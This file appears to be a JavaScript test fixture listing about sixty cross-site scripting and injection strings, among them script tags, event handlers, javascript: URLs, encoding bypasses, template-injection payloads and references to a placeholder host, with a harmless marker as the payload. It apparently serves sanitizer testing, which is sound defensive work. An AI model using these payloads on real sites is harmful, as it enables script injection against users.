// Sixty texts that try to be scripts. Each that runs sets `window.ran` or opens a dialog.

const RUN = "window.ran=1";

export const STRINGS = [
  `<script>${RUN}</script>`, `<SCRIPT>${RUN}</SCRIPT>`, `<script src=data:text/javascript,${RUN}></script>`, `</script><script>${RUN}</script>`,
  `<script/x>${RUN}</script>`, `<scr<script>ipt>${RUN}</scr</script>ipt>`, `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`, `<IMG SRC=x OnErRoR=${RUN}>`, `<img src onerror=${RUN}//`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`, `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><foreignObject><body onload=${RUN}></foreignObject></svg>`, `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<body onload=${RUN}>`, `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`, `<embed src="javascript:${RUN}">`, `<a href="javascript:${RUN}">x</a>`, `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`, `java\u0000script:${RUN}`, `\u0001javascript:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `vbscript:${RUN}`, `//evil.example/x`, `https://evil.example/<script>`, `"onmouseover=${RUN} x="`,
  `' onfocus=${RUN} autofocus '`, `" autofocus onfocus="${RUN}`, `'"><img src=x onerror=${RUN}>`, `"><svg onload=${RUN}>`, `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`, `*/${RUN}/*`, `";${RUN};"`, `\`;${RUN};\``, `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`, `#{${RUN}}`, `<%= ${RUN} %>`,
  `<style>@import 'javascript:${RUN}'</style>`, `<style>*{background:url(//evil.example/x)}</style>`, `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<base href=//evil.example/>`, `<form action="javascript:${RUN}"><input type=submit autofocus>`,
  `<details open ontoggle=${RUN}>`, `<video><source onerror=${RUN}></video>`, `<input autofocus onfocus=${RUN}>`, `<marquee onstart=${RUN}>`,
  `<template><script>${RUN}</script></template>`, `\u202E<script>${RUN}</script>`,
];
